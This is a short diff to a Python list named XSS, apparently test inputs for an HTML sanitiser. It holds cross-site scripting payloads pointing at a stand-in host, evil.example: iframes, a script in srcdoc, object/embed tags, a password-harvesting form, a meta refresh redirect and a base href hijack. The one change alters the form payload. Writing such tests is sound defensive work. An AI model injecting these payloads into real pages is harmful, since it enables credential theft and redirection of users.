@@ -32,7 +32,7 @@ XSS = [
     '<iframe src="https://evil.example"></iframe>',
     '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
     '<object data="https://evil.example/x.swf"></object><embed src="x.swf">',
-    '<form action="https://evil.example"><input name="p" type="password"><button>go</button></form>',
+    '<form action="https://evil.example"><input type="password"><button>go</button></form>',
     '<meta http-equiv="refresh" content="0;url=https://evil.example">',
     '<base href="https://evil.example/">',
     '<link rel="stylesheet" href="https://evil.example/x.css">',
